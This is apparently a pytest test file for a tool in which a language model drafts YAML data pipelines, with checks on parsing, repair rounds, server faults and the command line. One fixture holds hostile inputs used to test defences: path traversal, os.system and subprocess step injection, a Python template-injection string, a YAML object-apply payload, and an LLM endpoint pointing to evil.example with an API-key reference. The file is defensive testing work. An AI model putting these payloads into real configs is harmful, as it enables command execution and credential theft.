"""A model drafts a pipeline: it is checked, sent back with its problems, and nothing of it is trusted."""

from __future__ import annotations

from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flows.asking import ModelNotReady, asking
from flows.drafting import REPAIRS, catalogue_text, draft, examined, find_pipeline, messages
from flows.journals import previews_of
from flows.plan import examine
from flows.spec import load_spec
from steps import registry
from steps.errors import DistilflowError, LLMError, SpecError
from steps.llms import OpenAILLM
from steps.llms.base import Chat
from tests.fakes.openai_server import Behaviour, FakeOpenAI, Fault, Rule
from tests.fakes.serving import running
from tests.flows.commands import Commands

WANTED = "Answers to questions about returns, as chat messages."
LLM = {"use": "OpenAILLM", "model": "m", "base_url": "http://127.0.0.1:9/v1"}
GOOD = """\
Here it is:
```yaml
name: returns
description: Answers to questions about returns.
steps:
  - name: load
    use: LoadDataFromDicts
    with: {data: [{instruction: How do I return shoes?}]}
  - name: answer
    use: TextGeneration
    after: load
    with: {system_prompt: Be kind.}
  - name: chat
    use: FormatTextGenerationSFT
    after: answer
```
"""
LACKING = GOOD.replace("instruction: How", "question: How")
HOSTILE = """\
name: "../../etc/passwd"
steps:
  - name: load
    use: "os:system"
    with: {command: "touch HACKED"}
  - name: code
    use: "subprocess:run"
    after: load
  - name: answer
    use: TextGeneration
    after: load
    with:
      template: "{{ ''.__class__.__mro__[1].__subclasses__() }}"
      llm:
        use: OpenAILLM
        model: x
        base_url: "https://evil.example/v1"
        api_key: "${OPENAI_API_KEY}"
        generation_kwargs: {temperature: 0.5, extra_body: {a: 1}}
canvas: {positions: {load: [1, 1]}}
evil: !!python/object/apply:os.system ["touch HACKED"]
"""


class Scripted:
    """Replies one after the other, the last one for ever."""

    def __init__(self, *replies: str) -> None:
        self.replies = list(replies)
        self.asked: list[Chat] = []

    async def __call__(self, chat: Chat) -> str:
        self.asked.append(chat)
        return self.replies.pop(0) if len(self.replies) > 1 else self.replies[0]


async def test_a_good_draft_is_asked_for_once_and_every_task_gets_the_chosen_model() -> None:
    ask = Scripted(GOOD)

    made = await draft(WANTED, ask, LLM)

    assert (made.asked, [problem.code for problem in made.problems]) == (1, [])
    assert made.spec is not None
    assert made.spec.step("answer").params == {"system_prompt": "Be kind.", "llm": LLM}
    assert WANTED in ask.asked[0][1]["content"]


async def test_a_missing_column_is_told_back_and_corrected() -> None:
    ask = Scripted(LACKING, GOOD)

    made = await draft(WANTED, ask, LLM)

    assert (made.asked, made.problems) == (2, [])
    complaint = ask.asked[1][-1]["content"]
    assert "'instruction'" in complaint
    assert "question" in complaint
    assert ask.asked[1][-2] == {"role": "assistant", "content": LACKING}


async def test_it_is_corrected_so_often_and_no_more_and_the_best_is_kept() -> None:
    worse = GOOD.replace("use: ", "use: No")
    ask = Scripted(LACKING, worse)

    made = await draft(WANTED, ask, LLM)

    assert made.asked == len(ask.asked) == REPAIRS + 1
    assert [problem.code for problem in made.problems] == ["missing-column"] * len(made.problems) != []
    assert "FormatTextGenerationSFT" in made.text
    assert len(ask.asked[-1]) == 4  # only the last draft goes back, not all of them


async def test_garbage_gives_nothing_and_says_what_was_said() -> None:
    ask = Scripted("I am sorry, I cannot do that.", "steps: [", "```yaml\nsteps: 7\n```", "no")

    made = await draft(WANTED, ask, LLM)

    assert (made.text, made.spec, made.asked, made.said) == ("", None, 4, "no")
    assert "no pipeline" in ask.asked[1][-1]["content"]


async def test_a_hostile_draft_chooses_no_imports_no_keys_and_no_addresses(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    for reply in (HOSTILE, HOSTILE.rpartition("evil:")[0]):
        made = await draft(WANTED, Scripted(reply), LLM, repairs=0)
        if made.spec is None:
            continue
        assert made.spec.name == "etc-passwd"
        assert made.spec.step("answer").params["llm"] == {**LLM, "generation_kwargs": {"temperature": 0.5}}
        assert {problem.code for problem in made.problems} >= {"unknown-step"}
        for secret in ("evil.example", "OPENAI_API_KEY", "canvas"):
            assert secret not in made.text
    assert made.spec is not None
    assert list(tmp_path.iterdir()) == []


async def test_sample_rows_become_the_source_and_only_the_first_are_shown_cut() -> None:
    rows = [{"question": f"why {at}", "long": "x" * 5000} for at in range(9)]
    drafted = GOOD.replace("with: {data: [{instruction: How do I return shoes?}]}", "output_mappings: {question: instruction}")
    ask = Scripted(drafted)

    made = await draft(WANTED, ask, LLM, rows)

    assert made.problems == []
    assert made.spec is not None
    assert made.spec.step("load").params["data"] == rows
    told = ask.asked[0][1]["content"]
    assert "why 2" in told
    assert "why 3" not in told
    assert len(told) < 2500


@pytest.mark.parametrize(
    "reply",
    [
        GOOD,
        GOOD.split("```yaml\n")[1].replace("```", ""),
        "<think>steps: [ no, wait</think>\n" + GOOD,
        "Two thoughts.\n```\nnot this\n```\n" + GOOD,
        GOOD.removesuffix("```\n"),
        '{"name": "returns", "steps": [{"name": "load", "use": "LoadDataFromDicts"}]}',
        'Sure! {"name": "returns", "steps": [{"name": "load", "use": "LoadDataFromDicts",}]} Enjoy.',
    ],
)
def test_a_pipeline_is_found_in_what_models_write_around_it(reply: str) -> None:
    assert find_pipeline(reply)["name"] == "returns"


@pytest.mark.parametrize(
    "reply", ["", "no", "steps:", "- a\n- b", "x" * 10_000, "[" * 5000, "steps: &a [*a]", "{" * 3000 + "}" * 3000]
)
def test_what_holds_none_is_told(reply: str) -> None:
    with pytest.raises(SpecError):
        find_pipeline(reply)


@pytest.mark.parametrize(
    "steps", ["[1, null]", "[[]]", "{a: 1}", "[{name: [], use: {}, with: x}]", "[{use: TextGeneration, with: {llm: 7}}]"]
)
def test_steps_of_any_shape_are_problems_not_errors(steps: str) -> None:
    _, problems = examined(f"name: [x]\nsteps: {steps}", LLM)

    assert problems


@pytest.mark.parametrize("text", ["", "  \n", "x" * 8001])
def test_a_description_is_needed_and_may_not_be_a_book(text: str) -> None:
    with pytest.raises(SpecError, match="description"):
        messages(text)


def test_the_catalogue_names_every_step_that_there_is_and_no_model() -> None:
    told = catalogue_text()

    assert all(f"- {name} (" in told for name in registry.names("steps"))
    assert "api_key" not in told
    assert "Needs: instruction, generations. Makes: ratings, rationales." in told


# ---- with a server


@pytest.fixture
def fake() -> FakeOpenAI:
    return FakeOpenAI(Behaviour(reply=GOOD))


@pytest.fixture
def url(fake: FakeOpenAI) -> Iterator[str]:
    with running(fake) as found:
        yield found


Drafting = Callable[..., Awaitable[tuple[Any, Any]]]


@pytest.fixture
def drafting(url: str, tmp_path: Path) -> Drafting:
    async def run(**more: Any) -> tuple[Any, Any]:
        llm = OpenAILLM(model="m", base_url=f"{url}/v1", price={"input": 1, "output": 2}, max_retries=0, **more)
        async with asking(llm, tmp_path / "runs", "draft") as (ask, used):
            return await draft(WANTED, ask, LLM), used

    return run


async def test_a_server_is_asked_and_what_it_cost_is_counted(fake: FakeOpenAI, drafting: Drafting, tmp_path: Path) -> None:
    made, used = await drafting()

    assert made.problems == []
    assert used.requests == fake.stats.by_status[200] == 1
    assert used.known_cost == pytest.approx((used.input_tokens + 2 * used.output_tokens) / 1e6)
    assert any(path.stat().st_size for path in previews_of(tmp_path / "runs").iterdir())  # on disk before it was used


async def test_the_same_description_is_asked_anew(fake: FakeOpenAI, drafting: Drafting) -> None:
    await drafting()
    await drafting()

    assert fake.stats.by_status[200] == 2


async def test_a_server_corrects_what_it_is_told(fake: FakeOpenAI, drafting: Drafting) -> None:
    fake.behaviour = Behaviour(reply=lambda chat, at, model: GOOD if "problem" in chat[-1]["content"] else LACKING)

    made, used = await drafting()

    assert (made.asked, used.requests, made.problems) == (2, 2, [])


async def test_a_server_that_goes_away_leaves_the_draft_that_there_is(fake: FakeOpenAI, drafting: Drafting) -> None:
    fake.behaviour = Behaviour(reply=LACKING, rules=[Rule("problem", Fault.UNAUTHORIZED)])

    made, used = await drafting()

    assert (made.asked, used.requests) == (1, 1)
    assert made.text
    assert made.stopped


@pytest.mark.parametrize("fault", [Fault.UNAUTHORIZED, Fault.SERVER_ERROR, Fault.GARBAGE, Fault.CONTEXT_LENGTH])
async def test_a_server_that_fails_at_once_is_told(fake: FakeOpenAI, drafting: Drafting, fault: Fault) -> None:
    fake.behaviour = Behaviour(rules=[Rule("", fault)])

    with pytest.raises(DistilflowError):
        await drafting()


async def test_a_server_that_is_not_there_is_told(tmp_path: Path) -> None:
    llm = OpenAILLM(model="m", base_url="http://127.0.0.1:9/v1", max_retries=0)

    async with asking(llm, tmp_path, "draft") as (ask, _):
        with pytest.raises(LLMError):
            await draft(WANTED, ask, LLM)


async def test_without_a_key_nothing_is_asked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)

    with pytest.raises(ModelNotReady, match="OPENAI_API_KEY is not set"):
        async with asking(OpenAILLM(model="m"), tmp_path, "draft"):
            pass
    assert list(tmp_path.iterdir()) == []


def test_the_command_line_drafts_writes_and_tells_what_is_left(fake: FakeOpenAI, url: str, commands: Commands) -> None:
    here = {"OPENAI_BASE_URL": f"{url}/v1", "OPENAI_API_KEY": "k"}
    commands.environment |= here
    (commands.folder / "rows.csv").write_text("instruction,n\nSay hi,1\n")

    good = commands("new", "mine", "--describe", WANTED, "--llm", "openai/m")
    fake.behaviour = Behaviour(reply=LACKING)
    bad = commands("new", "bad", "--describe", WANTED, "--llm", "openai/m")
    fake.behaviour = Behaviour(reply=GOOD.replace("with: {data: [{instruction: How do I return shoes?}]}", ""))
    sampled = commands("new", "sampled", "--describe", WANTED, "--llm", "openai/m", "--sample", "rows.csv")
    fake.behaviour = Behaviour(reply="no idea")
    none = commands("new", "none", "--describe", WANTED, "--llm", "openai/m")
    refused = commands("new", "mine", "--describe", WANTED, "--llm", "openai/m")

    assert (good.code, bad.code, sampled.code, none.code, refused.code) == (0, 3, 0, 2, 2), good.err
    assert load_spec(commands.folder / "mine.yaml").name == "mine"
    assert "1 request" in good.err
    assert "[missing-column] step 'answer'" in bad.err
    assert load_spec(commands.folder / "sampled.yaml").step("load").params["data"] == [{"instruction": "Say hi", "n": "1"}]
    assert "no idea" in none.err
    assert not (commands.folder / "none.yaml").exists()
    assert commands("plan", "mine.yaml").code == 0


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["--describe", "x"], "--llm openai/gpt-4o-mini"),
        (["--llm", "openai/m"], "--describe"),
        (["--describe", "x", "--llm", "rehearsal"], "cannot draft"),
        (["--describe", " ", "--llm", "ollama/m"], "description is empty"),
        (["--describe", "x", "--llm", "ollama/m", "--sample", "nowhere.csv"], "nowhere.csv cannot be read"),
    ],
)
def test_the_command_line_says_what_a_draft_needs(commands: Commands, arguments: list[str], words: str) -> None:
    ended = commands("new", "mine", *arguments)

    assert ended.code == 2
    assert words in ended.err
    assert not (commands.folder / "mine.yaml").exists()


def test_a_draft_is_as_its_file_reads() -> None:
    spec, problems = examined(GOOD, LLM)

    assert spec is not None
    assert examine(spec)[1] == problems == []


PARTS = [
    "steps:",
    "- name: a",
    "  use: TextGeneration",
    "  with: {llm: 7}",
    "```",
    "```yaml",
    "{",
    "[",
    "x",
    "&a",
    "*a",
    "name: n",
]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200) | st.lists(st.sampled_from(PARTS)).map("\n".join))
def test_whatever_a_model_replies_it_is_a_pipeline_or_told(reply: str) -> None:
    spec, problems = examined(reply, LLM)

    assert spec is not None or problems
